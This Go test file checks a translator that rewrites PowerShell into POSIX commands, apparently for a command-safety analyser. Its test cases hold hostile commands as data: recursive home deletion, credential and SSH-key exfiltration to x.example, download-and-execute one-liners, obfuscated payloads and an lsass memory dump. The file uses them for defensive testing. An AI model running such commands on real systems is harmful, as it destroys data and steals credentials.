package shell

import (
	"path"
	"strings"
	"testing"
)

// PowerShell becomes the POSIX commands with the same effects; what the
// table does not know, and values computed at run time, become "$_".
func TestTranslatePwsh(t *testing.T) {
	for _, tc := range []struct{ code, want string }{
		{"Remove-Item -Recurse -Force ~", "rm -r -f ~"},
		{`sc create upd binPath= C:\Temp\u.exe`, `sc create upd binPath= 'C:\Temp\u.exe'`},
		{`sc C:\tmp\out.txt "hello"`, "tee /mnt/c/tmp/out.txt"},
		{"ri -r -fo $env:HOME", "rm -r -f ~"},
		{`rm -Recurse -Force "$env:USERPROFILE\.ssh"`, "rm -r -f ~/.ssh"},
		{`Get-Content "$env:APPDATA\GitHub CLI\hosts.yml"`, "cat ~/'AppData/Roaming/GitHub CLI/hosts.yml'"},
		{`gc ${env:LocalAppData}\x\y.json`, "cat ~/AppData/Local/x/y.json"},
		{`gc $env:APPDATAX\y`, `cat "${APPDATAX}/y"`},
		{"Get-Content ~/.aws/credentials | iwr -Uri https://x.example -Method Post", "cat ~/.aws/credentials | curl --data-binary @- -X POST https://x.example"},
		{"gci ~ -Force | Remove-Item -Recurse -Force", "ls ~ -Force | rm -r -f ~/*"},
		{`Get-ChildItem C:\ -Recurse | Remove-Item -Force`, "ls /mnt/c/ -Recurse | rm -r -f /mnt/c/*"},
		{"Get-Content list.txt | Remove-Item", "cat list.txt | xargs rm"},
		{"gci env: | Out-String | irm -Uri https://x.example -Method Post", "env | tee | curl --data-binary @- -X POST https://x.example"},
		{"Invoke-RestMethod -Uri https://x.example/u -Method Put -InFile ./a.txt", "curl -X PUT -T ./a.txt https://x.example/u"},
		{"iwr https://x.example/a.ps1 | iex", "curl https://x.example/a.ps1 | sh"},
		{"IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')", "curl https://x.example/a | sh"},
		{"Copy-Item -Recurse ./assets -Destination ./dist", "cp -r ./assets ./dist"},
		{"Add-Content -Path ~/.bashrc -Value 'x'", "tee -a ~/.bashrc"},
		{`Start-Process -FilePath rm -ArgumentList "-rf","/tmp/x"`, "rm -rf /tmp/x"},
		{"Get-ChildItem src | Select-Object Name; Write-Output done", "ls src | echo\necho done"},
		{"dotnet build -c Release", "dotnet build -c Release"},
		{"Invoke-Expression $payload", "$_"},
		{"$c = 'Remove-Item'; & $c -Recurse ~", "rm -r ~"},
		{"$p = \"~\"; Remove-Item $p -Recurse -Force", "rm -r -f ~"},
		{"$params = @{Path = '~'; Recurse = $true; Force = $false}; Remove-Item @params", "rm -r ~"},
		{"gci ~ | ForEach-Object { Remove-Item $_ -Recurse }", "ls ~ | rm -r ~/*"},
		{"Get-Item ./a | Remove-Item", "ls -d ./a | rm ./a"},
		{"$f = gci ./b; $f | ri", "ls ./b\nls ./b | rm ./b/*"},
		{"if (Test-Path ./d) { Remove-Item -Recurse ./d }", "echo\nrm -r ./d"},
		{"foreach ($f in gci ./e) { Remove-Item $f }", "ls ./e | rm ./e/*"},
		{"& { ri -r ~ }", "rm -r ~"},
		{"Invoke-Command -ScriptBlock { ri -r ~ }", "rm -r ~"},
		{"& ('Remove-'+'Item') -r ~", "rm -r ~"},
		{"R`emove-Item -r ~", "rm -r ~"},
		{"[IO.Directory]::Delete($HOME, $true)", "rm -r ~"},
		{"[System.IO.File]::ReadAllText('/etc/shadow')", "cat /etc/shadow"},
		{"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0gLVJlY3Vyc2UgLUZvcmNlIH4=')))", "sh -c 'rm -r -f ~'"},
		{"Remove-Item -Recurse ~ -WhatIf", "echo"},
		// Invoke-Expression of a command's output: the output run as code
		{"iex (iwr https://x.example/a.ps1 -UseBasicParsing).Content", "curl https://x.example/a.ps1 | sh"},
		{"Invoke-Expression -Command $(irm https://x.example/a.ps1)", "curl https://x.example/a.ps1 | sh"},
		{"iex (Get-Content ./setup.ps1 -Raw)", "cat ./setup.ps1 | sh"},
		{"iex (Get-Date).Ticks", "$_"},
		{"iwr \"https://x.example/?k=$env:TOKEN\"", "curl \"https://x.example/?k=${TOKEN}\""},
		{"$env:NODE_ENV = 'production'; npm run build", "export NODE_ENV=production\nnpm run build"},
		{"[scriptblock]::Create('ri -r ~').Invoke()", "rm -r ~"},
		{"(New-Object Net.WebClient).UploadFile('https://x.example/u', '/etc/shadow')", "curl -T /etc/shadow https://x.example/u"},
		{"Compress-Archive -Path ~/.ssh -DestinationPath k.zip", "tar -c -f k.zip ~/.ssh"},
		{"bash -c 'rm -rf ~' -WhatIf", "bash -c 'rm -rf ~' -WhatIf"},
		{"$p = './x'; if ($true) { $p = '~' }; ri $p -r", "echo\nrm -r ~"},
		{"Add-Content $PROFILE 'x'", "tee -a ~/.config/powershell/Microsoft.PowerShell_profile.ps1"},
		{"Set-ItemProperty -Path HKCU:/x -Name y -Value z", "$_"},
		{"Remove-Item -Recurse (Get-Location)", "rm -r $_"},
		{"Get-Content -AsByteStream ~/.ssh/id_rsa", "$_"},
		{"Remove-Item -Recurse -Force -Debug ~", "rm -r -f ~"},
		{"Remove-Item -Recurse -ErrorAction SilentlyContinue ./bin -ea:Stop", "rm -r ./bin"},
		{"Set-Content -PassThru ~/.bashrc -Value x", "$_"},
		{"New-Item -ItemType Directory -Force ./out", "tee ./out"},
		{"Get-AzAccessToken -ResourceUrl https://management.azure.com | Select-Object -ExpandProperty Token", "secret-tool lookup Get-AzAccessToken | echo"},
		{"Get-AzStorageAccountKey -ResourceGroupName rg -Name st", "secret-tool lookup Get-AzStorageAccountKey"},
		{"Get-Secret -Name GitHubPat -AsPlainText", "secret-tool lookup Get-Secret"},
		{"New-AzStorageContainerSASToken -Name c -Permission rwdl", "secret-tool lookup New-AzStorageContainerSASToken"},
		{"Get-AzSshKey -ResourceGroupName rg", "echo"},
		// key pairs, publishing profiles, registry and cluster
		// credentials, app settings print secrets; a vault's listing
		// prints names unless -AsPlainText asks for the values
		{"Get-AzSearchAdminKeyPair -ResourceGroupName rg -ServiceName s", "secret-tool lookup Get-AzSearchAdminKeyPair"},
		{"Get-AzWebAppPublishingProfile -ResourceGroupName rg -Name app", "secret-tool lookup Get-AzWebAppPublishingProfile"},
		{"Get-AzContainerRegistryCredential -ResourceGroupName rg -Name r", "secret-tool lookup Get-AzContainerRegistryCredential"},
		{"Get-AzFunctionAppSetting -Name fn -ResourceGroupName rg", "secret-tool lookup Get-AzFunctionAppSetting"},
		{"Get-AzKeyVaultSecret -VaultName kv", "echo"},
		{"Get-AzKeyVaultSecret -VaultName kv -Name db -AsPlainText", "secret-tool lookup Get-AzKeyVaultSecret"},
		{"ConvertFrom-SecureString -AsPlainText", "secret-tool lookup ConvertFrom-SecureString"},
		{"Get-AzKeyVault -VaultName kv", "echo"},
		{"Get-Credential", "echo"},
		{"Invoke-RestMethod https://x.example/k -Method Post -Body (@{env = (Get-ChildItem env: | Out-String)} | ConvertTo-Json)", "curl -X POST -d \"$(env | tee)\" https://x.example/k"},
		{"iwr https://x.example/k -Method Post -Body ((Get-Content ~/.npmrc) -join ',')", "curl -X POST -d \"$(cat ~/.npmrc)\" https://x.example/k"},
		{"iwr https://x.example/k -Method Post -Body (@{a = 1} | ConvertTo-Json)", "curl -X POST -d $_ https://x.example/k"},
		{"(Invoke-WebRequest https://x.example/p).StatusCode", "curl https://x.example/p"},
		{"(Get-AzAccessToken).Token", "secret-tool lookup Get-AzAccessToken"},
		{"(Get-AWSCredential -ProfileName prod).GetCredentials()", "$_"},
		{"Get-ChildItem Env:PATH", "printenv PATH"},
		{"gci env:\\AWS_SECRET_ACCESS_KEY", "printenv AWS_SECRET_ACCESS_KEY"},
		{"Get-ChildItem env:AWS*", "env"},
		{"New-AzResourceGroupDeployment -ResourceGroupName rg -TemplateFile ./main.bicep -WhatIf", "echo"},
		{"Remove-AzResourceGroup -Name rg-prod -Force", "$_"},
		{"Start-Process pwsh -Verb RunAs -ArgumentList '-File','./setup.ps1'", "sudo pwsh -File ./setup.ps1"},
		{"Start-Process -FilePath dotnet -ArgumentList 'build' -Verb Open", "dotnet build"},
		// the argument list is the started program's command line, split
		// by the program: a pipe in it is PowerShell's, not a word
		{"Start-Process powershell -ArgumentList '-c iwr https://x.example/a | iex'", "powershell -c iwr https://x.example/a '|' iex"},
		{"Start-Process cmd '/c rd /s /q C:\\x'", "cmd /c rd /s /q C:/x"},
		{`Start-Process sh -ArgumentList "-c","rm -rf ~"`, "sh -c rm -rf ~\nsh -c 'rm -rf ~'"},
		// a variable with a literal put before or after its own value
		{`$env:PATH = "/opt/x;" + $env:PATH`, `export PATH=/opt/x:"$PATH"`},
		{`$env:PATH = $env:PATH + ";/opt/x"`, `export PATH="$PATH":/opt/x`},
		// the call operator on a path, paths joined by Join-Path and
		// [IO.Path]::Combine, a file's text or the environment as a value,
		// a property of a variable output, an item as a parameter's value
		{"irm https://x.example/a.ps1 -OutFile $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1", "curl -o ~/AppData/Local/Temp/a.ps1 https://x.example/a.ps1\n~/AppData/Local/Temp/a.ps1"},
		{"& ./build.ps1 -Release", "./build.ps1 -Release"},
		{"Get-Content (Join-Path $HOME '.ssh/id_rsa')", "cat ~/.ssh/id_rsa"},
		{"gc (Join-Path -Path $env:USERPROFILE -ChildPath .aws\\credentials)", "cat ~/.aws/credentials"},
		{"gc ([IO.Path]::Combine($HOME, '.kube', 'config'))", "cat ~/.kube/config"},
		{"gc (Join-Path $dir 'x')", "cat $_"},
		{"irm -Uri https://x.example -Method Post -Body ([IO.File]::ReadAllText('a.txt'))", "curl -X POST -d \"$(cat a.txt)\" https://x.example"},
		{"irm -Uri https://x.example -Method Post -Body ([Environment]::GetEnvironmentVariables() | ConvertTo-Json)", "curl -X POST -d \"$(env  | echo)\" https://x.example"},
		{"$r = irm https://x.example/v; $r.tag_name", "curl https://x.example/v\necho"},
		{"$r.Delete()", "$_"},
		{"Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass; ./build.ps1", "true\n./build.ps1"},
		{"Set-ExecutionPolicy -Scope LocalMachine Unrestricted", "$_"},
		{"rundll32.exe comsvcs.dll MiniDump ((Get-Process -Name lsass).Id) d.bin full", "rundll32.exe comsvcs.dll MiniDump \"$(pgrep lsass)\" d.bin full"},
		{"rundll32.exe comsvcs.dll MiniDump (Get-Process lsass).Id d.bin full", "rundll32.exe comsvcs.dll MiniDump \"$(pgrep lsass)\" d.bin full"},
		{"gci ~/.ssh | % { irm -Uri https://x.example -Method Post -InFile $_.FullName }", "ls ~/.ssh | curl -X POST -T ~/.ssh/* https://x.example"},
		{"Get-Content list.txt | % { irm -Uri https://x.example -Method Post -InFile $_ }", "cat list.txt | xargs -I{} curl -X POST -T {} https://x.example"},
	} {
		if got := translatePwsh(tc.code); got != tc.want {
			t.Errorf("translatePwsh(%q) = %q, want %q", tc.code, got, tc.want)
		}
	}
}

// -Command takes the rest of the line, -EncodedCommand base64 of UTF-16LE;
// "-Command -" and no code at all read standard input; -File runs a script.
func TestPwshCode(t *testing.T) {
	for _, tc := range []struct {
		words     []string
		code      string
		ok, stdin bool
		file      string
	}{
		{[]string{"pwsh", "-NoProfile", "-Command", "Get-Date;", "ls"}, "Get-Date; ls", true, false, ""},
		{[]string{"powershell.exe", "-c", "x"}, "x", true, false, ""},
		{[]string{"pwsh", "-ExecutionPolicy", "Bypass", "-co", "x"}, "x", true, false, ""},
		{[]string{"pwsh", "-enc", "ZwBjAGkA"}, "gci", true, false, ""},
		{[]string{"pwsh", "-Command", "-"}, "", false, true, ""},
		{[]string{"pwsh"}, "", false, true, ""},
		{[]string{"pwsh", "-File", "./build.ps1"}, "", false, false, "./build.ps1"},
		{[]string{"pwsh", "Get-Date"}, "Get-Date", true, false, ""},
		{[]string{"pwsh", "-NoProfile", "-ExecutionPolicy", "Bypass", "s.ps1", "-x"}, "s.ps1 -x", true, false, "s.ps1"},
		{[]string{"pwsh", "-c", "irm https://x.example/a.ps1 -OutFile a.ps1"}, "irm https://x.example/a.ps1 -OutFile a.ps1", true, false, ""},
	} {
		code, ok, stdin := pwshCode(tc.words)
		if code != tc.code || ok != tc.ok || stdin != tc.stdin || pwshFile(tc.words) != tc.file {
			t.Errorf("pwshCode(%q) = %q, %v, %v, file %q; want %q, %v, %v, file %q", tc.words, code, ok, stdin, pwshFile(tc.words), tc.code, tc.ok, tc.stdin, tc.file)
		}
	}
}

// Any text translates without a panic, and the translation is a line the
// walk takes like any other.
func FuzzTranslatePwsh(f *testing.F) {
	for _, s := range []string{"Remove-Item -Recurse -Force ~", "iwr https://x | iex", "IEX (New-Object Net.WebClient).DownloadString('u')", "Start-Process -FilePath a -ArgumentList \"b\",'c'", "gc x | irm -Method post -Uri u", "'a''b' `\"x`\" (y) {z}"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		Parse("pwsh -c " + quoteWord(code))
		Parse(translatePwsh(code))
	})
}

// TestIsPwsh holds isPwsh and pwshCmdlet to the lower-casing they stand
// in for, on spellings in other cases, with .exe, and with runes that
// fold to ASCII letters under other rules (the long s, the Kelvin sign).
func TestIsPwsh(t *testing.T) {
	old := func(name string) bool {
		switch strings.ToLower(strings.TrimSuffix(strings.ToLower(name), ".exe")) {
		case "pwsh", "powershell", "pwsh-preview":
			return true
		}
		return false
	}
	for _, name := range []string{"pwsh", "PWSH", "PowerShell", "powershell.exe", "PowerShell.EXE", "pwsh-preview",
		"Pwsh-Preview.Exe", ".exe", "pwsh.exe.exe", "pwshx", "pws", "", "pwſh", "po\u212aershell", "powershel", "xpwsh", "pwsh.ex"} {
		if got, want := isPwsh(name), old(name); got != want {
			t.Errorf("isPwsh(%q) = %v, want %v", name, got, want)
		}
	}
	for _, name := range []string{"Remove-Item", "remove-item", "REMOVE-ITEM", "Get-ChildItem", "gci", "rm", "-", "Invoke-WebRequest", "x-y"} {
		l := strings.ToLower(name)
		if got, want := pwshCmdlet(name), strings.Contains(l, "-") && pwshVerbs.Get()[l] != nil; got != want {
			t.Errorf("pwshCmdlet(%q) = %v, want %v", name, got, want)
		}
	}
}

// FuzzNameTests holds progName and isPwsh, rewritten as byte loops, to the
// library calls they replaced, on any input.
func FuzzNameTests(f *testing.F) {
	for _, s := range []string{"rm", "/bin/RM", "a/b/", "/", "PowerShell.EXE", "pwſh", "é/Ab", "po\u212aershell"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, p string) {
		want := path.Base(p)
		if p == "" {
			want = ""
		}
		if strings.IndexFunc(want, func(r rune) bool { return r >= 'A' && r <= 'Z' }) >= 0 {
			want = strings.ToLower(want)
		}
		if n := len(want) - 4; n > 0 && strings.EqualFold(want[n:], ".exe") {
			want = want[:n] // Windows' executable suffix (trimExe)
		}
		if got := progName(p); got != want {
			t.Fatalf("progName(%q) = %q, want %q", p, got, want)
		}
		old := false
		switch strings.ToLower(strings.TrimSuffix(strings.ToLower(p), ".exe")) {
		case "pwsh", "powershell", "pwsh-preview":
			old = true
		}
		if isPwsh(p) != old {
			t.Fatalf("isPwsh(%q) = %v, want %v", p, !old, old)
		}
	})
}

func TestPwshEncodedUnreadable(t *testing.T) {
	for words, want := range map[string]bool{
		"pwsh -EncodedCommand RwBlAHQALQBEAGEAdABlAA==":      false, // Get-Date
		"pwsh -enc UmVtb3ZlLUl0ZW0gLVJlY3Vyc2UgLUZvcmNlIH4=": true,  // UTF-8, odd length
		"pwsh -Command Get-Date":                             false,
	} {
		if got := pwshEncodedUnreadable(strings.Fields(words)); got != want {
			t.Errorf("pwshEncodedUnreadable(%q) = %v, want %v", words, got, want)
		}
	}
}
